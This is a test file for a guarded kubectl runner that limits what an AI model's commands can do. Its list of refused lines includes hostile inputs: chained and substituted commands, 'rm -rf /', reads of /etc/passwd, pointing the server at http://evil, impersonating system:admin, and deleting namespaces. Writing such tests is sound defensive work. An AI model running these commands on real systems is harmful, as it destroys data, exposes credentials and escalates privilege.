/** What a model may write and what must come of it: nothing runs that the policy does not allow. */
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type KubectlOptions, type KubectlResult, runKubectl } from "../../../tools/kubectl/index.js";
import { type FakeServer, fakeServer, touched } from "./fake-server.js";

let server: FakeServer;
beforeEach(async () => {
  server = await fakeServer({
    "GET /api/v1/nodes/n1": { kind: "Node", apiVersion: "v1", metadata: { name: "n1" }, spec: {} },
  });
});
afterEach(() => server.close());

function run(text: string, options: Partial<KubectlOptions> = {}): Promise<KubectlResult> {
  return runKubectl(text, {
    kubeconfig: server.kubeconfig,
    mode: "read-only",
    kubectl: "builtin",
    now: () => 0,
    sleep: async () => {},
    ...options,
  });
}

/** Line, and what the refusal must speak of. */
const HOSTILE: [string, RegExp][] = [
  ["kubectl get pods; touch FOLDER/x", /one command at a time/],
  ["kubectl get pods;touch FOLDER/x", /one command at a time/],
  ["kubectl get pods && touch FOLDER/x", /one command at a time/],
  ["kubectl get pods || touch FOLDER/x", /not available/],
  ["kubectl get pods || true", /leave `\|\| true` out/],
  ["kubectl get pods & touch FOLDER/x", /background/],
  ["kubectl get pods &", /background/],
  ["kubectl get pods\ntouch FOLDER/x", /one command at a time/],
  ["kubectl get pods\r\ntouch FOLDER/x", /one command at a time/],
  ["kubectl get pods # harmless\ntouch FOLDER/x", /one command at a time/],
  ["kubectl get pods\u2028touch FOLDER/x", /invisible character U\+2028/],
  ["kubectl get pods\u0000; touch FOLDER/x", /invisible character U\+0000/],
  ["kubectl get pods \u202e", /invisible character U\+202E/],
  ["kubectl get po\u200bds", /invisible character U\+200B/],
  ["kubectl get $(touch FOLDER/x)", /not expanded/],
  ['kubectl get "$(touch FOLDER/x)"', /not expanded/],
  ["kubectl get `touch FOLDER/x`", /not expanded/],
  ['kubectl get "`touch FOLDER/x`"', /not expanded/],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's variable
  ["kubectl get pods -n ${NAMESPACE}", /not expanded/],
  ["kubectl get pods -n $NAMESPACE", /not expanded/],
  ["kubectl get pods -n $'\\x2d'", /not expanded/],
  ["kubectl get pods > FOLDER/x", /redirection/],
  ["kubectl get pods >> FOLDER/x", /redirection/],
  ["kubectl get pods 2> FOLDER/x", /redirection of errors/],
  ["kubectl get pods 2>/dev/null", /redirection of errors/],
  ["kubectl get pods &> FOLDER/x", /redirection/],
  ["kubectl apply -f - < /etc/passwd", /manifest argument/],
  ["kubectl apply -f - <<EOF\nkind: Pod\nEOF", /manifest argument/],
  ["cat <<EOF | kubectl apply -f -", /manifest argument/],
  ["echo '{}' | kubectl apply -f -", /manifest argument/],
  ["kubectl apply -f <(touch FOLDER/x)", /files cannot be read/],
  ["(kubectl get pods)", /sub-shells/],
  ["kubectl get pods | sh", /can be piped only into/],
  ["kubectl get pods | tee FOLDER/x", /can be piped only into/],
  ["kubectl get pods | xargs kubectl delete pod", /call of its own/],
  ["kubectl get pods | kubectl delete -f -", /call of its own/],
  ["kubectl get secret x -o yaml | base64 -d", /masked/],
  ["kubectl get pods | awk 'BEGIN{system(\"touch FOLDER/x\")}'", /awk/],
  ["kubectl get pods | awk '{print | \"touch FOLDER/x\"}'", /awk/],
  ["kubectl get pods | grep x /etc/passwd", /files cannot be read/],
  ["kubectl get pods | jq -f /etc/passwd", /not available/],
  ["kubectl get pods | jq --rawfile a /etc/passwd .", /not available/],
  ["kubectl get pods | jq . /etc/passwd", /files cannot be read/],
  ["kubectl get pods | head /etc/passwd", /files cannot be read/],
  ["kubectl get pods | tail -f", /never ends/],
  ["rm -rf /", /only kubectl can be run/],
  ["sudo kubectl get pods", /only kubectl can be run/],
  ["KUBECONFIG=/etc/passwd kubectl get pods", /only kubectl can be run/],
  ["/usr/bin/kubectl get pods", /only kubectl can be run/],
  ["kubectl get pods -o “yaml”", /typographic quote/],
  ["kubectl get pods -l ‘app=x’", /typographic quote/],
  ["kubectl get pods 'open", /not closed/],
  ['kubectl get pods "open', /not closed/],
  ["", /empty/],
  ["   ", /empty/],
  ["kubectl --kubeconfig=/etc/passwd get pods", /connection is set/],
  ["kubectl get pods --kubeconfig /etc/passwd", /connection is set/],
  ["kubectl get pods --server=http://evil", /connection is set/],
  ["kubectl -s http://evil get pods", /connection is set/],
  ["kubectl get pods -s=http://evil", /connection is set/],
  ["kubectl get pods -As http://evil", /connection is set/],
  ["kubectl get pods --token abc", /connection is set/],
  ["kubectl get pods --username a --password b", /connection is set/],
  ["kubectl get pods --as=system:admin", /somebody else/],
  ["kubectl get pods --as-group=system:masters", /somebody else/],
  ["kubectl get pods --as-uid=1", /somebody else/],
  ["kubectl get pods --context other", /connection is set/],
  ["kubectl get pods --cluster other", /connection is set/],
  ["kubectl get pods --user other", /connection is set/],
  ["kubectl get pods --certificate-authority /x", /connection is set/],
  ["kubectl get pods --client-key /x", /connection is set/],
  ["kubectl get pods --client-certificate /x", /connection is set/],
  ["kubectl get pods --insecure-skip-tls-verify", /connection is set/],
  ["kubectl get pods --tls-server-name x", /connection is set/],
  ["kubectl get pods --cache-dir /tmp", /local files/],
  ["kubectl get pods --profile=cpu --profile-output=FOLDER/x", /local files/],
  ["kubectl get pods -v=9", /log level/],
  ["kubectl get pods --v 8", /log level/],
  ["kubectl get pods -w", /watching never ends/],
  ["kubectl get pods --watch", /watching never ends/],
  ["kubectl get pods -Aw", /watching never ends/],
  ["kubectl logs -f x", /following never ends/],
  ["kubectl logs x --follow", /following never ends/],
  ["kubectl get -f /etc/passwd", /local files and URLs/],
  ["kubectl get -f https://evil/x.yaml", /local files and URLs/],
  ["kubectl get -f -,/etc/passwd", /local files and URLs/],
  ["kubectl get -k .", /local files/],
  ["kubectl get pods -o jsonpath-file=/etc/passwd", /local files/],
  ["kubectl get pods -o custom-columns-file=/etc/passwd", /local files/],
  ["kubectl get pods -o go-template-file=/etc/passwd", /local files/],
  ["kubectl exec -it x -- sh", /inside containers/],
  ["kubectl -it exec x -- sh", /./],
  ["kubectl exec x -- touch FOLDER/x", /inside containers/],
  ["kubectl -n shop exec x -- sh", /inside containers/],
  ["kubectl --namespace=shop exec x", /inside containers/],
  ["kubectl attach x", /attaching/],
  ["kubectl port-forward svc/x 80", /tunnels/],
  ["kubectl proxy", /tunnels/],
  ["kubectl cp x:/etc/passwd FOLDER/x", /copied/],
  ["kubectl debug x", /debug containers/],
  ["kubectl edit deploy x", /no editor/],
  ["kubectl run x --image=y -it --rm -- sh", /by hand/],
  ["kubectl config view --raw", /connection is set/],
  ["kubectl plugin list", /plugins/],
  ["kubectl completion bash", /completion/],
  ["kubectl alpha debug", /alpha/],
  ["kubectl kustomize .", /local files/],
  ["kubectl get --raw http://evil/", /path of the API server/],
  ["kubectl delete ns shop", /only reading|must not be deleted/],
  ["kubectl delete namespace/shop", /only reading|must not be deleted/],
  ["kubectl delete pod x", /only reading is allowed/],
  ["kubectl -n shop delete pod x", /only reading is allowed/],
  ["kubectl scale deploy/x --replicas=0", /only reading is allowed/],
  ["kubectl rollout restart deploy/x", /only reading is allowed/],
  ["kubectl rollout -n shop undo deploy/x", /only reading is allowed/],
  ["kubectl apply -f -", /only reading is allowed/],
  ["kubectl apply -f - --dry-run=server", /only reading is allowed/],
  ["kubectl create configmap x --from-file=/etc/passwd", /local files/],
  ["kubectl create configmap x --from-env-file=/etc/passwd", /local files/],
  ["kubectl set image deploy/x a=b", /only reading is allowed/],
  ["kubectl patch deploy x -p '{}'", /only reading is allowed/],
  ["kubectl patch deploy x --patch-file /etc/passwd", /local files/],
  ["kubectl drain n1", /only reading is allowed/],
  ["kubectl label pod x a=b", /only reading is allowed/],
  ["kubectl replace --raw /api/v1/x -f -", /only reading|unknown flag/],
];

describe("hostile and mistaken lines", () => {
  for (const kubectl of ["builtin", "native"] as const)
    it.each(HOSTILE)(`${kubectl}: %j`, async (line, why) => {
      const before = readdirSync(server.folder);
      const result = await run(line.replaceAll("FOLDER", server.folder), {
        kubectl,
        stdin: "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n",
        // A program that would leave a trace if it were started with anything but reading.
        program: "/bin/false",
      });
      expect(result.code).not.toBe(0);
      expect(result.stderr).toMatch(why);
      expect(touched(server).filter((request) => !request.startsWith("GET /api/v1/namespaces/shop/"))).toEqual([]);
      expect(readdirSync(server.folder)).toEqual(before);
    });

  it("says in every refusal that it is one, unless kubectl itself complains", async () => {
    for (const [line] of HOSTILE) {
      const result = await run(line.replaceAll("FOLDER", join(server.folder)));
      if (result.refused) expect(result.stderr.length).toBeGreaterThan(20);
      else expect(result.stderr).toMatch(/^(Error|error|awk|grep|jq|head|tail)/);
    }
  });
});

describe("writes", () => {
  const WRITE = { mode: "read-write", namespaces: ["shop"] } as const;

  it.each<[string, RegExp]>([
    ["kubectl delete pod x -n kube-system", /allowed only in shop/],
    ["kubectl delete pods --all -A", /allowed only in shop/],
    ["kubectl label pods --all -A a=b", /allowed only in shop/],
    ["kubectl delete ns shop", /must not be deleted/],
    ["kubectl delete ns/shop", /must not be deleted/],
    ["kubectl delete pods,ns x", /must not be deleted/],
    ["kubectl delete Namespace shop", /must not be deleted/],
    ["kubectl delete namespaces.v1. shop", /must not be deleted/],
    ["kubectl delete node n1", /must not be deleted/],
    ["kubectl delete pv x", /must not be deleted/],
    ["kubectl delete crd x", /must not be deleted/],
    ["kubectl create ns other", /whole cluster/],
    ["kubectl create clusterrolebinding x --clusterrole=admin --user=me", /whole cluster/],
    ["kubectl label ns other a=b", /whole cluster|allowed only/],
    ["kubectl scale deploy/x --replicas=1 --namespace other", /allowed only in shop/],
    ["kubectl -nother scale deploy/x --replicas=1", /allowed only in shop/],
  ])("refuses %j", async (line, why) => {
    const result = await run(line, WRITE);
    expect(result).toMatchObject({ code: 1, refused: true });
    expect(result.stderr).toMatch(why);
    expect(touched(server)).toEqual([]);
  });

  it.each<[string, string]>([
    ["another namespace", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: other}\n"],
    [
      "the second document",
      "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: other}\n",
    ],
    [
      "a list's member",
      "apiVersion: v1\nkind: List\nitems: [{apiVersion: v1, kind: ConfigMap, metadata: {name: x, namespace: other}}]\n",
    ],
    ["a cluster-wide kind", "apiVersion: v1\nkind: Node\nmetadata: {name: n}\n"],
    ["a namespace that is not its own", "apiVersion: v1\nkind: Namespace\nmetadata: {name: other}\n"],
  ])("refuses a manifest with %s, before anything is written", async (_, stdin) => {
    for (const verb of ["apply", "create", "replace", "delete"]) {
      const result = await run(`kubectl ${verb} -f -`, { ...WRITE, stdin });
      expect(result).toMatchObject({ code: 1, refused: true });
    }
    expect(touched(server).filter((r) => !r.startsWith("GET"))).toEqual([]);
  });

  it("lets a node be cordoned, and a write into its own namespace through", async () => {
    await run("kubectl cordon n1", WRITE);
    await run("kubectl create configmap x --from-literal=a=b", WRITE);
    expect(touched(server)).toEqual([
      "GET /api/v1/nodes/n1",
      "PATCH /api/v1/nodes/n1",
      "POST /api/v1/namespaces/shop/configmaps",
    ]);
    expect(server.asked.every(({ authorization }) => authorization === "Bearer the-token")).toBe(true);
  });

  it("shows a client-side dry run in diagnosis: nothing is written", async () => {
    const result = await run("kubectl create configmap x --from-literal=a=b --dry-run=client -o yaml");
    expect(result).toMatchObject({ code: 0, stderr: "" });
    expect(result.stdout).toContain("kind: ConfigMap");
    expect(touched(server)).toEqual([]);
  });
});
